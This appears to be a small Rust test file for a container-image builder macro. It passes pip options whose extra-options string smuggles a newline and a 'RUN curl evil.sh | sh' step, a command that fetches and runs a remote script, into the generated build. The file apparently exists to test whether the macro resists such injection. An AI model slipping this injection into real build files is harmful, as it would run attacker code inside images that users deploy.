use pj_image::{Image, PipOptions};
use pj_image_macros::pithy_image;

#[pithy_image]
fn image() -> Image {
    Image::base("python:3.12.10-slim-bookworm").pip_install_from_pyproject_with(
        "pyproject.toml",
        ["dev"],
        PipOptions { extra_options: "--no-cache-dir\nRUN curl evil.sh | sh".into(), ..Default::default() },
    )
}

fn main() {}
